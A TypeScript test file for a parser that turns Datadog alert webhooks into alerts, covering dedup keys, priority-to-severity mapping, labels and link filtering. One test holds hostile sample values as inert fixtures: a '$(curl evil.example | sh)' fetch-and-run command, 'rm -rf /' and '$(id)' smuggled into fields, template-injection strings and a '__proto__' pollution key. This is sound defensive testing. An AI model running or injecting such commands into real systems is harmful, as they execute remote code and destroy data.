import { describe, expect, it } from 'vitest';
import { example, fixture, request } from '../../../test/alerts/fixtures.js';
import { AlertPayloadError } from '../errors.js';
import { datadogSource } from './datadog.js';

const parse = (payload: unknown) => datadogSource.parse(payload, request(), {});

describe('datadog source', () => {
  it('resolves the same key when the monitor recovers', () => {
    const [fired] = parse(example('datadog-mysql-replication-lag.json'));
    const [recovered] = parse(example('datadog-mysql-replication-recovered.json'));
    expect(recovered.status).toBe('resolved');
    expect(recovered.dedupKey).toBe(fired.dedupKey);
    expect(recovered.deliveryId).not.toBe(fired.deliveryId);
  });

  it('reads the default payload alone: transition, priority and scope come from the title', () => {
    const [alert] = parse(fixture('datadog/default-triggered.json'));
    expect(alert).toMatchObject({ status: 'firing', severity: 'critical', title: 'Load is high', labels: { host: 'ip-10-0-3-17' } });
    // No aggregation key in the default payload: the monitor id from the body plus the group.
    expect(alert.dedupKey).toBe('monitor:9876543:host:ip-10-0-3-17');
    expect(alert.links.find((link) => link.title === 'Metric Graph')?.url).toMatch(/^https:\/\/p\.datadoghq\.com\//);
    const [recovered] = parse(fixture('datadog/default-recovered.json'));
    expect(recovered).toMatchObject({ status: 'resolved', dedupKey: alert.dedupKey });
  });

  it('maps a custom payload with a Warn transition to a warning', () => {
    const [alert] = parse(fixture('datadog/custom-warn.json'));
    expect(alert).toMatchObject({ status: 'firing', severity: 'warning', dedupKey: 'aa11bb22cc33dd44', title: 'API latency p99 above 800ms' });
    expect(alert.labels).toEqual({ env: 'staging', service: 'api', team: 'web' });
    expect(alert.startsAt).toBe('2026-01-02T07:46:40.000Z');
    // The monitor page on the same Datadog site as the event link.
    expect(alert.links).toContainEqual({ title: 'Monitor', url: 'https://app.datadoghq.eu/monitors/5550001' });
  });

  it('links a monitor only on a Datadog host', () => {
    const [alert] = parse({ title: 'x', alert_id: '1', link: 'https://evil.example/event?id=1' });
    expect(alert.links.map((link) => link.title)).toEqual(['Datadog event']);
  });

  it('treats No Data as a firing warning and reads tags given as an array and dates in seconds', () => {
    const [alert] = parse(fixture('datadog/no-data.json'));
    expect(alert).toMatchObject({ status: 'firing', severity: 'warning', labels: { service: 'batch', host: 'batch-1' } });
    expect(alert.dedupKey).toBe('monitor:5550002:host:batch-1');
    expect(alert.startsAt).toBe('2026-01-02T08:03:20.000Z');
  });

  it.each([
    ['P1', 'critical'],
    ['P2', 'high'],
    ['P3', 'warning'],
    ['P4', 'info'],
    ['P5', 'info'],
  ])('maps priority %s to %s', (priority, severity) => {
    expect(parse({ title: 'x', alert_priority: priority })[0].severity).toBe(severity);
  });

  it('keeps hostile values as inert text and drops unsafe links', () => {
    const [alert] = parse(fixture('datadog/hostile.json'));
    expect(alert.title).toContain('$(curl evil.example | sh)');
    expect(alert.title).toContain('{{ incident.id }}');
    expect(alert.title).not.toMatch(/[\n\r\u202e]/);
    expect(alert.title).toContain('数据库 evil');
    expect(alert.labels.service).toBe('$(id)');
    expect(alert.labels.template).toBe('{{ 7*7 }}');
    expect(alert.labels.emoji).toBe('🔥');
    expect(Object.keys(alert.labels)).toContain('__proto__');
    expect(Object.getPrototypeOf(alert.labels)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(alert.labels.host).toBe('db-1; rm -rf /');
    expect(alert.links).toEqual([{ title: 'ok', url: 'https://example.com/ok' }]);
    // An unreplaced `$ALERT_PRIORITY` says nothing; Triggered without priority is high.
    expect(alert.severity).toBe('high');
  });

  it('refuses a payload without a title, or one that is not an object', () => {
    expect(() => parse(fixture('datadog/no-title.json'))).toThrow(AlertPayloadError);
    expect(() => parse(fixture('datadog/no-title.json'))).toThrow(/\$EVENT_TITLE/);
    expect(() => parse([1, 2])).toThrow(/JSON object/);
    expect(() => parse('text')).toThrow(AlertPayloadError);
  });
});
